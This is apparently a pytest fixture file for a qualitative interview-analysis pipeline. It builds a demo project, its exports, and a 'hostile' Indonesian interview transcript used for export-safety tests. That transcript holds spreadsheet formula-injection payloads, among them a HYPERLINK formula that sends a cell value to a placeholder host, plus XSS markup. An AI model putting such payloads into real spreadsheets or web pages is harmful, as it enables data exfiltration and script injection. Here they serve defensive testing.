"""Projects for the display/export tests, built once per session: the demo corpus (two thirds of its gold verified,
codebook suggestions, two triangulation verdicts) exported in every format, and a small hostile corpus of our own
(formula triggers, markup, real names) for the safety tests."""

from __future__ import annotations

from pathlib import Path

import pytest

from pipeline.codebook import Codebook, load_codebook
from pipeline.config import Config, load_config
from pipeline.store import Store
from tests.conftest import DEMO, DEMO_CODEBOOK, write_manifest

# Third-party schemas, read in place from the repository's sibling `shared/` folder (never copied into the project).
REFI_SCHEMAS = Path(__file__).resolve().parents[1] / ".." / "shared" / "refi-qda"
_BUILT: dict[str, Path] = {}

HOSTILE_TXT = """# Wawancara uji keamanan
P: Bagaimana pendapat Ibu tentang KKG?
I: =HYPERLINK("http://contoh.invalid/curi?d="&A1,"klik di sini") KKG itu penting, kata Pak Bambang.
P: Ada lagi, Bu?
I: +62 812 3456 jadwalnya, jangan lupa. <script>alert('xss')</script> <img src=x onerror=alert(1)>
P: Terakhir?
I: -1+1 @SUM(A1:A2) Bambang Sutrisno bilang pelatihan media itu bagus sekali & perlu diulang.
"""


def codebook_of(config: Config) -> Codebook:
    """The demo study's codebook (`config` names none: a project holds its own)."""
    return load_codebook(DEMO_CODEBOOK)


def build_demo(folder: Path, config: Config) -> Path:
    """The demo corpus as a project: gold for two thirds of the excerpts, suggestions, two verdicts."""
    from pipeline import suggest
    from pipeline.app.project import init_project
    from pipeline.ingest.batch import ingest, resolve_batch
    from pipeline.store.excerpts import excerpts_frame
    from pipeline.store.labels import record_gold
    from pipeline.store.runs import start_run
    from pipeline.store.suggestions import save_suggestions
    from pipeline.store.triangulation import set_status

    codebook = codebook_of(config)
    lines = (DEMO / "gold.csv").read_text(encoding="utf-8").splitlines()
    partial = folder / "gold-part.csv"
    partial.write_text("\n".join(lines[: 1 + (len(lines) - 1) * 2 // 3]) + "\n", encoding="utf-8")
    project = folder / "demo"
    with init_project(project, DEMO_CODEBOOK) as store:
        ingest(store, resolve_batch([DEMO], config)[0], config)
        record_gold(store, partial, codebook=codebook)
        run_id = start_run(store, "test")
        save_suggestions(store, run_id, suggest.run(excerpts_frame(store), codebook, config.suggest),
                         codebook.version)
        with store.transaction() as db:
            set_status(db, "KKG-MASALAH", "perlu_data_tambahan", "peneliti", "Cek notulen; kata Pak Dadang beda.")
            set_status(db, "HAM-JADWAL", "terkonfirmasi", "peneliti", "Wawancara, observasi dan dokumen sejalan.")
    return project


@pytest.fixture(scope="session")
def demo_project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    if "demo" not in _BUILT:
        _BUILT["demo"] = build_demo(tmp_path_factory.mktemp("demo"), load_config())
    return _BUILT["demo"]


@pytest.fixture(scope="session")
def demo_exports(demo_project: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Every format, pseudonymised (`default`) and with real names (`real`)."""
    from pipeline.app.export import export_project
    from pipeline.app.project import Project

    if "default" not in _BUILT:
        config = load_config()
        for label, real in (("default", False), ("real", True)):
            out = tmp_path_factory.mktemp(f"export-{label}")
            with Store.open(demo_project) as store:
                export_project(Project(store, config, codebook_of(config)), out, real_names=real)
            _BUILT[label] = out
    return {"default": _BUILT["default"], "real": _BUILT["real"]}


@pytest.fixture
def hostile_project(tmp_path: Path, config: Config) -> Path:
    """One interview whose answers start with formula triggers and hold markup, naming its informant."""
    from pipeline.ingest.batch import ingest, resolve_batch

    corpus = tmp_path / "korpus"
    corpus.mkdir()
    (corpus / "W-X1.txt").write_text(HOSTILE_TXT, encoding="utf-8")
    write_manifest(corpus, [dict(file="W-X1.txt", informant="X1", role="guru", site="sdn-uji", method="wawancara",
                                 date="2024-03-01", name="Drs. Bambang Sutrisno, M.Pd.")])
    project = tmp_path / "proj"
    with Store.init(project) as store:
        ingest(store, resolve_batch([corpus], config)[0], config)
    return project
